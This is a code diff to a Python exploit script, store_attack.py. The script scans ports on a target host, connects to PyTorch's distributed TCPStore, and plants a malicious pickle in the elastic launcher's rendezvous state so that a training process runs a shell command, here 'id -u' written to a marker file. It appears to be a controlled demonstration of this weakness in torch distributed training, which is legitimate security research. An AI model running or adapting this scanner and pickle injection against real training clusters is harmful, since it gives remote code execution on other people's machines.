@@ -1,7 +1,7 @@
 """What another host does to a training that it reaches: for the interpreter with torch.
 
-``python store_attack.py ADDRESS MARKER STOP FIRST LAST`` knocks at these TCP ports again and again until there is a file STOP, in its first and its
-last round at every port. Where one is open it speaks as a client of torch's store, and puts a pickle where torch's launcher keeps its
+``python store_attack.py ADDRESS MARKER STOP FIRST LAST`` knocks at these TCP ports again and again until there is a file STOP, and then
+once more. Where one is open it speaks as a client of torch's store, and puts a pickle where torch's launcher keeps its
 state, which says ``id -u > MARKER``. It prints the ports that were open.
 """
 
@@ -14,8 +14,6 @@ import pickle
 import socket
 import sys
 import time
-
-import torch.distributed as dist
 
 STATE = "torch.rendezvous."
 """How the key of the launcher's state begins (torch/distributed/elastic/rendezvous/c10d_rendezvous_backend.py)."""
@@ -40,6 +38,8 @@ def open_ports(address: str, ports: range) -> list[int]:
 
 
 def attack(address: str, port: int, marker: str) -> None:
+    import torch.distributed as dist  # takes seconds, and no port need be open
+
     store = dist.TCPStore(address, port, is_master=False, timeout=datetime.timedelta(seconds=5), wait_for_workers=False)
     for key in store.list_keys():
         if key.startswith(STATE) and "/" not in key:
@@ -48,18 +48,16 @@ def attack(address: str, port: int, marker: str) -> None:
 
 def main() -> None:
     address, marker, stop, first, last_port = sys.argv[1:]
-    every, likely = range(1, 65536), range(int(first), int(last_port) + 1)
+    ports = range(int(first), int(last_port) + 1)
     seen: set[int] = set()
-    begun = False
     while True:
         last = os.path.exists(stop)
-        for port in open_ports(address, likely if begun and not last else every):
+        for port in open_ports(address, ports):
             seen.add(port)
             try:
                 attack(address, port, marker)
             except RuntimeError as error:
                 print(f"{port}: {str(error).splitlines()[0]}", file=sys.stderr)
-        begun = True
         if last:
             break
         time.sleep(0.2)
